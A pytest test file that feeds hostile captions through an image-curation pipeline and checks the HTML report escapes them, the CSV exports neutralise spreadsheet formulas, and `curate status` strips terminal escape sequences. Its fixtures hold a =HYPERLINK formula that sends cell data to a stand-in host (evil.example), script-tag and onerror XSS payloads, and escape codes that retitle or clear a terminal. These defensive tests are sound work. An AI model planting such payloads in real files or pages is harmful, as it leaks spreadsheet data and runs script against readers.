"""Web text is hostile: a caption carrying HTML and a spreadsheet formula goes through the real pipeline
(search, crowd, noise, report, export) and comes out escaped in the page and inert in every CSV; exported
URLs of a local corpus carry no path of the curator's machine."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from conftest import DOG, MOBILENET, build_corpus, draw_image, pipeline_dict, write_pipeline

from curate.cli import main

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"dog") <script>alert("dog")</script> <img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, seeded_weights) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    corpus = tmp / "corpus"
    # A cat picture captioned and truly labelled "dog" (the crowd accepts it): the noise stage flags it,
    # so its caption reaches the report's flagged cards as well as every table.
    build_corpus(corpus, extra_rows=[{"file": "images/evil.png", "caption": HOSTILE, "true_wnids": DOG,
                                      "license": "@SUM(1+1)", "creator": "-2+3"}])
    draw_image((40, 40, 200), "rectangle", seed=99).save(corpus / "images" / "evil.png")
    data = pipeline_dict(corpus, tmp / "run")
    if MOBILENET.is_file():  # pretrained features flag the cat-as-dog reliably; random ones may not
        data["noise"].update(backbone="mobilenet_v2", weights=str(MOBILENET), filter_by="predicted_neq_given")
    else:  # a weights file, so the noise stage runs (with weights: none it skips its check) and writes its tables
        data["noise"].update(weights=str(seeded_weights))
    data["export"]["drop_label_issues"] = False  # keep the flagged image, so labels.csv carries its text
    pipeline = write_pipeline(tmp / "pipeline.yaml", data)
    assert main(["run", str(pipeline), "--no-progress"]) == 0
    return corpus, tmp / "run"


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.skipif(not MOBILENET.is_file(), reason="needs the pretrained MobileNetV2 state_dict (shared/models)")
def test_the_report_escapes_the_caption(hostile_run):
    _, run_dir = hostile_run
    flagged = rows(run_dir / "report" / "label_issues.csv")
    assert any(r["caption"].startswith("'=HYPERLINK") for r in flagged), "precondition: the cat-as-dog is flagged"
    html = (run_dir / "report" / "index.html").read_text()
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(" in html and "evil.example" in html


def test_report_tables_neutralise_formulas(hostile_run):
    _, run_dir = hostile_run
    for name in ("label_issues.csv", "all_labels.csv"):
        captions = [r["caption"] for r in rows(run_dir / "report" / name) if "HYPERLINK" in r["caption"]]
        assert captions and all(c.startswith("'=") for c in captions)


def test_labels_csv_neutralises_formulas_and_has_no_curator_paths(hostile_run):
    corpus, run_dir = hostile_run
    text = (run_dir / "export" / "labels.csv").read_text()
    assert str(corpus) not in text and "file://" not in text
    (evil,) = [r for r in rows(run_dir / "export" / "labels.csv") if "HYPERLINK" in r["title"]]
    assert evil["title"].startswith("'=") and evil["license"] == "'@SUM(1+1)" and evil["creator"] == "'-2+3"
    assert evil["url"] == "images/evil.png" and evil["source"] == "local:corpus"
    assert all(not r["url"].startswith("/") for r in rows(run_dir / "export" / "labels.csv"))


def test_status_prints_no_terminal_escapes(hostile_run, capsys):
    """Text from the web or a crowd reaches `curate status` as data, never as escape sequences."""
    from curate.catalog import Catalog

    _, run_dir = hostile_run
    catalog = Catalog(run_dir / "catalog.sqlite")
    try:
        catalog.upsert_synsets([{"wnid": "n99999999", "name": "evil.n.01", "lemmas": "evil\x1b]0;owned\x07",
                                 "gloss": "\x1b[2Jcleared", "depth": 1, "hypernym_wnid": None, "lexname": "x"}])
        run_id = catalog.start_stage("annotate", "x")
        catalog.finish_stage(run_id, "ok", {"note": "\x1b[31mred\r\nforged line", "warning": "\x1b[2J"})
    finally:
        catalog.close()
    capsys.readouterr()
    assert main(["status", str(run_dir)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\r" not in out and "evil?]0;owned?" in out and "?[31mred??forged line" in out
